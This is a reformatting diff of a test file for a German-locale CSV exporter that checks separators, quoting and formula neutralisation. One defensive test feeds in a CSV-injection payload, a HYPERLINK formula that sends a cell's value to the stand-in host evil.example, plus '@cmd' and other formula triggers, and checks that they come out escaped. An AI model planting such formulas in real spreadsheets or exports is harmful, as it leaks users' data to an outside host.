@@ -3,11 +3,14 @@ import { Decimal } from 'decimal.js';
 import { germanCsv, germanCsvLine } from './german-csv.js';
 
 describe('German CSV', () => {
-  const csv = germanCsv(['Beleg-Nr.', 'Zahlungsempfänger', 'Betrag brutto EUR'], [
-    ['B-1', 'Müller; Söhne GmbH', new Decimal('1234.5')],
-    ['B-2', 'Stadtwerke "Wuppertal"', new Decimal('-0.01')],
-    ['B-3', null, new Decimal('9999999999.99')],
-  ]);
+  const csv = germanCsv(
+    ['Beleg-Nr.', 'Zahlungsempfänger', 'Betrag brutto EUR'],
+    [
+      ['B-1', 'Müller; Söhne GmbH', new Decimal('1234.5')],
+      ['B-2', 'Stadtwerke "Wuppertal"', new Decimal('-0.01')],
+      ['B-3', null, new Decimal('9999999999.99')],
+    ],
+  );
   const text = csv.toString('utf8');
 
   it('starts with a UTF-8 BOM and ends lines with CRLF', () => {
@@ -42,7 +45,16 @@ describe('German CSV', () => {
   });
 
   it('neutralises text a spreadsheet would evaluate as a formula (OWASP), but never numbers', () => {
-    const line = germanCsvLine(['=HYPERLINK("http://evil.example/?"&A1;"Klick")', '+SUM(1;2)', '-2+3', '@cmd', '\tTab', 'Müller', new Decimal('-7.50'), -3]);
+    const line = germanCsvLine([
+      '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
+      '+SUM(1;2)',
+      '-2+3',
+      '@cmd',
+      '\tTab',
+      'Müller',
+      new Decimal('-7.50'),
+      -3,
+    ]);
     expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")";"'+SUM(1;2)";'-2+3;'@cmd;'\tTab;Müller;-7,50;-3\r\n`);
   });
 });
